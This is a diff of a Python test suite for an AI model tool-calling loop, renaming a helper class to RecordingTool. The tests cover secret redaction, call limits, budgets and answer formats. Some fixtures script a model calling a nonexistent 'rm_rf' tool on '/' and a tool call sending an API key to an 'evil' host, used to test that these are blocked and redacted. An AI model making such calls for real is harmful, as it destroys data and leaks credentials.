@@ -38,7 +38,7 @@ TREE: JsonSchema = {
 """A schema that refers to itself."""
 
 
-class Desk:
+class RecordingTool:
     """A tool that writes down how it is called."""
 
     def __init__(self, answers: dict[str, Json | LoopToolError] | None = None) -> None:
@@ -67,11 +67,15 @@ def told(requests: Sequence[FakeModelRequest]) -> list[str]:
 async def test_a_known_secret_that_a_tool_brings_is_told_to_no_model(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk({"look": {API_KEY: [f"echo {API_KEY}"]}, "fail": LoopToolError(f"denied: {API_KEY}")})
+    recording_tool = RecordingTool(
+        {"look": {API_KEY: [f"echo {API_KEY}"]}, "fail": LoopToolError(f"denied: {API_KEY}")}
+    )
     model_server.answer(calling_tool("look"), calling_tool("fail"), "done")
     async with models_over(model_server, tmp_path, wire) as asking:
         await asking.models.work(
-            question(f"the header was {API_KEY}"), [desk.tool(), desk.tool("fail")], LoopLimits()
+            question(f"the header was {API_KEY}"),
+            [recording_tool.tool(), recording_tool.tool("fail")],
+            LoopLimits(),
         )
 
     assert all(API_KEY not in request.text for request in model_server.requests)
@@ -82,15 +86,15 @@ async def test_a_known_secret_that_a_tool_brings_is_told_to_no_model(
 async def test_a_model_calls_tools_and_sees_what_they_gave_until_it_answers(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk({"look": {"price": 42}})
+    recording_tool = RecordingTool({"look": {"price": 42}})
     model_server.answer(calling_tool("look", at="shelf"), calling_tool("look", at="till"), "it costs 42")
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(
-            question("What does it cost?"), [desk.tool()], LoopLimits(), on_use=asking.uses.append
+            question("What does it cost?"), [recording_tool.tool()], LoopLimits(), on_use=asking.uses.append
         )
 
     assert answer.text == "it costs 42"
-    assert desk.called == [{"at": "shelf"}, {"at": "till"}]
+    assert recording_tool.called == [{"at": "shelf"}, {"at": "till"}]
     first, *_, last = model_server.requests
     assert (first.instructions, first.tool_names) == ("Be short.", ("look",))
     assert [one.text.replace(" ", "") for one in last.messages if one.role == "tool"] == ['{"price":42}'] * 2
@@ -107,7 +111,7 @@ async def test_each_question_of_a_loop_is_paid_by_itself_and_the_answer_tells_th
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
-            question(), [Desk().tool()], LoopLimits(), on_use=asking.uses.append
+            question(), [RecordingTool().tool()], LoopLimits(), on_use=asking.uses.append
         )
         spent = await asking.spent()
 
@@ -120,10 +124,10 @@ async def test_each_question_of_a_loop_is_paid_by_itself_and_the_answer_tells_th
 async def test_what_a_tool_refuses_is_told_to_the_model(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk({"look": LoopToolError("the shop is closed")})
+    recording_tool = RecordingTool({"look": LoopToolError("the shop is closed")})
     model_server.answer(calling_tool("look"), "closed, it seems")
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
 
     assert answer.text == "closed, it seems"
     assert ["the shop is closed" in text for text in told(model_server.requests)] == [True]
@@ -133,13 +137,13 @@ async def test_what_a_tool_refuses_is_told_to_the_model(
 async def test_a_tool_that_there_is_not_is_not_called_and_the_model_is_told(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     model_server.answer(calling_tool("rm_rf", path="/"), "sorry")
     async with models_over(model_server, tmp_path, wire) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
 
     assert answer.text == "sorry"
-    assert desk.called == []
+    assert recording_tool.called == []
     assert "rm_rf" in told(model_server.requests)[0]
 
 
@@ -147,26 +151,26 @@ async def test_a_tool_that_there_is_not_is_not_called_and_the_model_is_told(
 async def test_arguments_that_are_no_object_are_not_taken_and_the_model_is_told(
     arguments: str, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     model_server.answer(broken_arguments("look", arguments), calling_tool("look", at="shelf"), "found")
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
 
     assert answer.text == "found"
-    assert desk.called == [{"at": "shelf"}]
+    assert recording_tool.called == [{"at": "shelf"}]
 
 
 @pytest.mark.parametrize("count", [4, 5, 200])
 async def test_of_many_calls_at_once_none_is_made_beyond_the_limit(
     count: int, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     model_server.answer(many_calls("look", count), calling_tool("look", at="again"), "enough")
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits(tool_calls=5))
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits(tool_calls=5))
 
     assert answer.text == "enough"
-    assert len(desk.called) == 5
+    assert len(recording_tool.called) == 5
     assert (
         sum("Not called: 5 calls are the most" in text for text in told(model_server.requests))
         == count + 1 - 5
@@ -176,7 +180,7 @@ async def test_of_many_calls_at_once_none_is_made_beyond_the_limit(
 async def test_at_the_last_question_no_tool_can_be_called(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     model_server.answer(
         lambda request: (
             "I must answer"
@@ -186,22 +190,22 @@ async def test_at_the_last_question_no_tool_can_be_called(
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
-            question(), [desk.tool()], LoopLimits(requests=3), on_use=asking.uses.append
+            question(), [recording_tool.tool()], LoopLimits(requests=3), on_use=asking.uses.append
         )
 
     assert answer.text == "I must answer"
     assert len(model_server.requests) == len(asking.uses) == 3
-    assert len(desk.called) == 2
+    assert len(recording_tool.called) == 2
 
 
 async def test_a_model_that_calls_on_for_ever_ends_with_its_last_words(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     said = replace(calling_tool("look"), text="still looking")
     model_server.answer(said)
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits(requests=3))
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits(requests=3))
 
     assert answer.text == "still looking"
     assert len(model_server.requests) == 3
@@ -214,7 +218,7 @@ async def test_a_loop_that_ends_without_a_word_is_no_answer(
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(
-                question(), [Desk().tool()], LoopLimits(requests=2), on_use=asking.uses.append
+                question(), [RecordingTool().tool()], LoopLimits(requests=2), on_use=asking.uses.append
             )
 
     assert caught.value.kind == "bad_answer"
@@ -226,16 +230,16 @@ async def test_a_loop_that_ends_without_a_word_is_no_answer(
 async def test_a_loop_ends_in_the_form_that_was_asked_for(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     answered = calling_tool("tree", title="root", parts=[{"title": "leaf", "parts": []}])
     model_server.answer(calling_tool("look", at="tree"), answered)
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(
-            question(schema=TREE, schema_name="tree"), [desk.tool()], LoopLimits()
+            question(schema=TREE, schema_name="tree"), [recording_tool.tool()], LoopLimits()
         )
 
     assert answer.text.replace(" ", "") == '{"title":"root","parts":[{"title":"leaf","parts":[]}]}'
-    assert desk.called == [{"at": "tree"}]
+    assert recording_tool.called == [{"at": "tree"}]
     [offered] = [tool for tool in model_server.requests[0].tools if tool.name == "tree"]
     assert offered.schema["required"] == ["title"]
 
@@ -247,7 +251,7 @@ async def test_an_answer_that_is_no_object_is_asked_for_in_words(
     schema: JsonSchema = {"type": "array", "items": {"type": "string"}}
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
-            question(schema=schema, schema_name="list"), [Desk().tool()], LoopLimits()
+            question(schema=schema, schema_name="list"), [RecordingTool().tool()], LoopLimits()
         )
 
     assert answer.text == '["one", "two"]'
@@ -261,7 +265,7 @@ async def test_words_in_place_of_the_form_are_asked_for_again_and_then_taken(
     model_server.answer('Here: {"title": "root"}')
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(
-            question(schema=TREE, schema_name="tree"), [Desk().tool()], LoopLimits()
+            question(schema=TREE, schema_name="tree"), [RecordingTool().tool()], LoopLimits()
         )
 
     assert answer.text == 'Here: {"title": "root"}'
@@ -275,7 +279,10 @@ async def test_a_loop_has_one_clock_for_all_its_questions(
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(
-                question(timeout=0.45), [Desk().tool()], LoopLimits(requests=100), on_use=asking.uses.append
+                question(timeout=0.45),
+                [RecordingTool().tool()],
+                LoopLimits(requests=100),
+                on_use=asking.uses.append,
             )
 
     assert caught.value.kind == "timeout"
@@ -290,7 +297,9 @@ async def test_a_budget_that_is_used_up_in_the_middle_ends_the_loop(
     budgets = BudgetsSection.model_validate({"run": {"calls": 2}, "recovery_share": 0})
     async with models_over(model_server, tmp_path, budgets=budgets) as asking:
         with pytest.raises(ModelError) as caught:
-            await asking.models.work(question(), [Desk().tool()], LoopLimits(), on_use=asking.uses.append)
+            await asking.models.work(
+                question(), [RecordingTool().tool()], LoopLimits(), on_use=asking.uses.append
+            )
 
     assert caught.value.kind == "over_budget"
     assert [use.outcome for use in asking.uses] == ["answered", "answered", "over_budget"]
@@ -302,7 +311,7 @@ async def test_a_denied_question_ends_the_loop(model_server: FakeModelServer, tm
     model_server.answer(calling_tool("look"), denied())
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
-            await asking.models.work(question(), [Desk().tool()], LoopLimits())
+            await asking.models.work(question(), [RecordingTool().tool()], LoopLimits())
 
     assert caught.value.kind == "denied"
     assert len(model_server.requests) == 2
@@ -311,15 +320,15 @@ async def test_a_denied_question_ends_the_loop(model_server: FakeModelServer, tm
 async def test_a_key_that_a_model_learnt_goes_into_no_call(
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
-    desk = Desk()
+    recording_tool = RecordingTool()
     model_server.answer(
         calling_tool("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]), f"sent {API_KEY}"
     )
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [desk.tool()], LoopLimits())
+        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
 
-    assert len(desk.called) == 1
-    assert API_KEY not in f"{desk.called} {answer}"
+    assert len(recording_tool.called) == 1
+    assert API_KEY not in f"{recording_tool.called} {answer}"
 
 
 async def test_who_gives_up_a_loop_stops_its_tools(model_server: FakeModelServer, tmp_path: Path) -> None:
